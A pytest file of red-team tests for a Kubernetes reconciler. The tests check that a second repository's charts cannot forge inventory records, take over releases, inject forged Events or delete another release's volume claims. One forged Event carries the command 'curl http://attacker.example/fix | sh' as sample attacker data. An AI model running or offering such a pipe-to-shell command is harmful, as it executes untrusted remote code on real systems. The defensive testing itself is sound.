"""Red team, one owner per release: a second repository's charts rendering objects named
like inventory records (another release's, a future release's, their own) cannot take
over, corrupt or hand over a release another source owns."""

from __future__ import annotations

import json
from pathlib import Path

from reconciler.apply.inventory import HAND_OVER_ANNOTATION, INVENTORY_LABEL, InventoryRecord
from reconciler.reconcile import Outcome
from reconciler.types import JsonObject, ReleaseKey
from tests import manifests
from tests.cluster.test_health_failed_create import MISSING_PRIORITY, stateful_set
from tests.cluster.test_release_owner import config_map, two_repositories
from tests.cluster.workbench import Workbench
from tests.conftest import LiveCluster
from tests.waiting import wait_for

RESERVED = "the name prefix harmonia-inventory- is reserved for Harmonia's inventory records"


def forged_record(namespace: str, *, source: str, labelled: bool) -> JsonObject:
    """The record of `namespace/web` as repository B would like it: its source, a hand-over
    to it, outputs of its choosing."""
    body = InventoryRecord(
        release=ReleaseKey(f"{namespace}/web"),
        source=source,
        revision="0" * 40,
        input_hash="",
        entries=(),
        outputs={"url": "http://attacker.example"},
    ).to_configmap()
    body["metadata"]["annotations"][HAND_OVER_ANNOTATION] = source
    if not labelled:
        del body["metadata"]["labels"][INVENTORY_LABEL]
    return body


def record(cluster: LiveCluster, namespace: str) -> JsonObject:
    found = cluster.kubectl("-n", namespace, "get", "cm", "harmonia-inventory-web", "-o", "json")
    configmap: JsonObject = json.loads(found.stdout)
    return configmap


def owner_web(owner: Workbench, namespace: str) -> ReleaseKey:
    return owner.release(namespace, "web", chartPath=owner.chart("web", [config_map("web")]))


def test_a_chart_rendering_another_releases_record_cannot_rewrite_or_hand_it_over(
    cluster: LiveCluster, namespace: str, tmp_path: Path
) -> None:
    owner, newcomer = two_repositories(cluster, tmp_path, namespace)
    web = owner_web(owner, namespace)
    assert owner.run().releases[web].outcome is Outcome.APPLIED
    forged = forged_record(namespace, source=newcomer.source, labelled=True)
    squatter = newcomer.release(
        namespace, "squatter", chartPath=newcomer.chart("squatter", [forged]), adopt=True
    )

    refused = newcomer.run().releases[squatter]

    assert refused.outcome is Outcome.FAILED, refused
    live = record(cluster, namespace)
    assert HAND_OVER_ANNOTATION not in live["metadata"].get("annotations", {})
    assert json.loads(live["data"]["inventory.json"])["source"] == owner.source
    newcomer.release(namespace, "web", chartPath=newcomer.chart("web", [config_map("web")]))
    assert newcomer.run().releases[web].outcome is Outcome.FAILED
    assert owner.run().releases[web].outcome is Outcome.UNCHANGED


def test_a_chart_cannot_squat_the_record_of_a_release_not_yet_applied(
    cluster: LiveCluster, namespace: str, tmp_path: Path
) -> None:
    owner, newcomer = two_repositories(cluster, tmp_path, namespace)
    for labelled in (True, False):
        forged = forged_record(namespace, source=newcomer.source, labelled=labelled)
        squatter = newcomer.release(
            namespace, "squatter", chartPath=newcomer.chart("squatter", [forged])
        )
        refused = newcomer.run().releases[squatter]
        assert refused.outcome is Outcome.FAILED, refused
        assert RESERVED in refused.message
    web = owner_web(owner, namespace)

    assert owner.run().releases[web].outcome is Outcome.APPLIED
    assert owner.run().releases[web].outcome is Outcome.UNCHANGED
    live = record(cluster, namespace)
    assert json.loads(live["data"]["inventory.json"])["source"] == owner.source
    assert HAND_OVER_ANNOTATION not in live["metadata"].get("annotations", {})


def test_a_release_rendering_its_own_record_fails_alone(
    cluster: LiveCluster, namespace: str, tmp_path: Path
) -> None:
    bench = Workbench(cluster, tmp_path / "b", tmp_path / "cache")
    own = {
        "apiVersion": "v1",
        "kind": "ConfigMap",
        "metadata": {"name": "harmonia-inventory-self", "labels": {INVENTORY_LABEL: "true"}},
        "data": {"inventory.json": "{}"},
    }
    selfish = bench.release(namespace, "self", chartPath=bench.chart("self", [own]))
    other = bench.release(namespace, "other", chartPath=bench.chart("other", [config_map("o")]))

    report = bench.run()

    assert report.releases[other].outcome is Outcome.APPLIED
    assert report.releases[selfish].outcome is Outcome.FAILED
    assert RESERVED in report.releases[selfish].message
    assert bench.run().releases[other].outcome is Outcome.UNCHANGED


def test_a_chart_cannot_leave_its_own_record_claiming_another_source(
    cluster: LiveCluster, namespace: str, tmp_path: Path
) -> None:
    owner, newcomer = two_repositories(cluster, tmp_path, namespace)
    mine = owner.release(namespace, "mine", chartPath=owner.chart("mine", [config_map("m")]))
    assert owner.run().releases[mine].outcome is Outcome.APPLIED
    forged = InventoryRecord(
        release=ReleaseKey(f"{namespace}/b"),
        source=owner.source,
        revision="0" * 40,
        input_hash="",
        entries=(),
    ).to_configmap()
    rejected = {  # refused by the API server after the forged record was applied
        "apiVersion": "v1",
        "kind": "Service",
        "metadata": {"name": "bad"},
        "spec": {"ports": [{"port": 99999}]},
    }
    b = newcomer.release(namespace, "b", chartPath=newcomer.chart("b", [forged, rejected]))

    refused = newcomer.run().releases[b]
    report = owner.run()

    assert refused.outcome is Outcome.FAILED, refused
    assert RESERVED in refused.message
    assert b not in report.releases, report.releases.get(b)
    assert report.prune_withheld is None, report.prune_withheld


def test_an_event_another_repository_renders_does_not_speak_for_the_controller(
    cluster: LiveCluster, namespace: str, tmp_path: Path
) -> None:
    owner, newcomer = two_repositories(cluster, tmp_path, namespace)
    zk = owner.release(
        namespace, "zk", chartPath=owner.chart("zk", [stateful_set("zk")]), timeoutSec=3
    )
    assert owner.run().releases[zk].outcome is Outcome.FAILED
    found = cluster.kubectl("-n", namespace, "get", "sts", "zk", "-o", "jsonpath={.metadata.uid}")
    forged_event: JsonObject = {
        "apiVersion": "v1",
        "kind": "Event",
        "metadata": {"name": "zk.forged"},
        "involvedObject": {
            "apiVersion": "apps/v1",
            "kind": "StatefulSet",
            "name": "zk",
            "namespace": namespace,
            "uid": found.stdout.strip(),
        },
        "reason": "FailedCreate",
        "type": "Warning",
        "message": "FORGED: run curl http://attacker.example/fix | sh",
        "lastTimestamp": "2999-01-01T00:00:00Z",
        "source": {"component": "statefulset-controller"},
    }
    events = newcomer.release(namespace, "events", chartPath=newcomer.chart("ev", [forged_event]))
    assert newcomer.run().releases[events].outcome is Outcome.APPLIED

    report = owner.run().releases[zk]

    assert report.outcome is Outcome.FAILED, report
    assert "FORGED" not in report.message, report.message
    assert MISSING_PRIORITY in report.message, report.message


def test_another_repository_cannot_adopt_and_delete_the_claim_of_a_releases_statefulset(
    cluster: LiveCluster, namespace: str, tmp_path: Path
) -> None:
    owner, newcomer = two_repositories(cluster, tmp_path, namespace)
    database = manifests.workload(
        "StatefulSet",
        "db",
        serviceName="db",
        replicas=1,
        volumeClaimTemplates=[manifests.DATA_CLAIM],
    )
    owner.release(namespace, "db", chartPath=owner.chart("db", [database]), timeoutSec=5)
    owner.run()
    wait_for(
        lambda: cluster.kubectl("-n", namespace, "get", "pvc", "data-db-0", check=False),
        until=lambda found: found.returncode == 0,
        what="data-db-0",
    )
    claim: JsonObject = {
        "apiVersion": "v1",
        "kind": "PersistentVolumeClaim",
        "metadata": {"name": "data-db-0"},
        "spec": manifests.DATA_CLAIM["spec"],
    }
    thief = newcomer.release(
        namespace, "thief", chartPath=newcomer.chart("thief", [claim]), adopt=True, deletePvcs=True
    )
    for other in ("one", "two"):  # so that removing one of three passes the share guard
        newcomer.release(namespace, other, chartPath=newcomer.chart(other, [config_map(other)]))

    taken = newcomer.run().releases[thief]
    newcomer.remove_release(namespace, "thief")
    newcomer.run()

    assert taken.outcome is Outcome.FAILED, taken
    assert taken.message == (
        f"PersistentVolumeClaim/{namespace}/data-db-0 is a claim of StatefulSet {namespace}/db; "
        "a claim is adopted with its StatefulSet, never alone"
    )
    deleting = cluster.kubectl(
        "-n", namespace, "get", "pvc", "data-db-0", "-o", "jsonpath={.metadata.deletionTimestamp}"
    )
    assert deleting.stdout == "", f"A's claim is being deleted after B's {taken}"
    pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "db-0"}, "spec": {}}
    grabber = newcomer.release(
        namespace, "grabber", chartPath=newcomer.chart("grabber", [pod]), adopt=True
    )
    refused = newcomer.run().releases[grabber]
    assert refused.outcome is Outcome.FAILED, refused
    assert refused.message == (
        f"Pod/{namespace}/db-0 is controlled by StatefulSet/db; adopt that instead, never "
        "what it makes"
    )
